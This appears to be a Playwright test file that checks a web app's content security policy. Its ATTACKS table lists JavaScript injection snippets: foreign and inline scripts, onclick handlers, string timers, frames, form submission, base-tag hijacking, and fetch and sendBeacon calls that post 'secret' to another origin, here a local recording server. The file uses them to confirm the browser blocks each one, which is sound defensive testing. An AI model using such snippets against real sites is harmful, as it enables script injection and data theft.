"""The content security policy, enforced by the browser: the page uses no third party."""

from __future__ import annotations

import http.server
import threading
from collections.abc import Callable, Iterator
from contextlib import ExitStack

import pytest
from playwright.sync_api import Browser, Page, expect

from loadtest.server import Server
from tests.browser.pages import new_context, press, run, show_tab

ATTACKS = {
    "a script of another origin": """
        const script = document.createElement("script");
        script.src = `${elsewhere}/script.js`;
        document.body.append(script);""",
    "a script in the page": """
        const script = document.createElement("script");
        script.textContent = "window.owned = true";
        document.body.append(script);""",
    "an attribute that runs": """
        document.body.setAttribute("onclick", "window.owned = true");
        document.body.click();""",
    "code made of text": """
        setTimeout("window.owned = true");""",
    "a style in the page": """
        const style = document.createElement("style");
        style.textContent = "body { color: rgb(1, 2, 3) }";
        document.body.append(style);""",
    "an image of another origin": """
        new Image().src = `${elsewhere}/pixel.png`;""",
    "a request to another origin": """
        fetch(`${elsewhere}/log`, { method: "POST", body: "secret" }).catch(() => {});""",
    "a beacon": """
        navigator.sendBeacon(`${elsewhere}/log`, "secret");""",
    "a frame": """
        const frame = document.createElement("iframe");
        frame.src = `${elsewhere}/frame`;
        document.body.append(frame);""",
    "a form that is sent away": """
        const form = document.createElement("form");
        form.action = `${elsewhere}/form`;
        document.body.append(form);
        form.submit();""",
    "another base of addresses": """
        const base = document.createElement("base");
        base.href = `${elsewhere}/`;
        document.head.append(base);""",
}


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """The address of a server that records its requests, and the list of their paths."""
    asked: list[str] = []

    class Writer(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        def do_POST(self) -> None:
            self.do_GET()

        def log_message(self, format: str, *arguments: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Writer) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield f"http://127.0.0.1:{server.server_address[1]}", asked
        server.shutdown()
        thread.join()


def test_attacks_of_a_third_party_are_stopped_by_the_browser(
    browser: Browser, server: Server, elsewhere: tuple[str, list[str]]
) -> None:
    address, asked = elsewhere
    with new_context(browser) as context:
        page = context.new_page()
        page.goto(server.url)
        for name, attack in ATTACKS.items():
            stopped = page.evaluate(
                f"""(elsewhere) => new Promise((resolve) => {{
                    const listen = (event) => resolve(event.effectiveDirective);
                    addEventListener("securitypolicyviolation", listen, {{ once: true }});
                    {attack}
                    setTimeout(() => resolve(null), 60000);
                }})""",
                address,
            )
            assert stopped, f"{name} was let through"
        assert page.evaluate("window.owned") is None
        assert page.evaluate("getComputedStyle(document.body).color") != "rgb(1, 2, 3)"
        assert page.url == f"{server.url}/"
    assert asked == []


def test_no_other_page_can_frame_this_one(browser: Browser, server: Server) -> None:
    with ExitStack() as stack:
        page = stack.enter_context(new_context(browser)).new_page()
        page.goto("data:text/html,<iframe></iframe>")
        page.evaluate("url => { document.querySelector('iframe').src = url }", server.url)
        page.wait_for_event("framenavigated", lambda frame: frame != page.main_frame)
        assert page.frames[1].url.startswith("chrome-error:")


def test_all_that_the_page_loads_is_its_servers_and_under_its_policy(
    opened: Callable[..., Page], server: Server
) -> None:
    page = opened()  # requests to other origins and violations fail every test
    page.wait_for_function("performance.getEntriesByType('resource').length > 3")  # they come late
    loaded = page.evaluate("performance.getEntriesByType('resource').map((each) => each.name)")
    assert all(url.startswith(server.url) for url in loaded)
    run(page)
    press(page, "Race")
    for tab in ("Code", "Operations", "Playground"):
        show_tab(page, tab)
    for tab in ("Explain", "Confidence", "Graph"):
        show_tab(page, tab)
    page.get_by_role("button", name="Theme").click()


def test_the_documentation_of_the_api_is_there_without_a_third_party(
    opened: Callable[..., Page],
) -> None:
    page = opened()
    page.get_by_role("link", name="API", exact=True).click()
    expect(page.get_by_text("/v1/chat/completions").first).to_be_visible()
    page.get_by_text("/v1/chat/completions").first.click()
    expect(page.get_by_role("button", name="Try it out").first).to_be_visible()


def test_the_page_works_where_a_proxy_serves_it_under_a_prefix(
    browser: Browser, server: Server
) -> None:
    with new_context(browser) as context:
        page = context.new_page()
        page.route(
            f"{server.url}/inner/**",
            lambda route: route.fulfill(
                response=route.fetch(url=route.request.url.replace("/inner/", "/", 1))
            ),
        )
        outside: list[str] = []
        page.on("request", lambda request: outside.append(request.url))
        page.goto(f"{server.url}/inner/")
        expect(page.locator("#model")).to_have_value("leapjson-demo")
        run(page)
        assert all("/inner/" in url for url in outside)
        # A request during the closing of the page would fail in its route, during the next test.
        page.unroute_all(behavior="ignoreErrors")
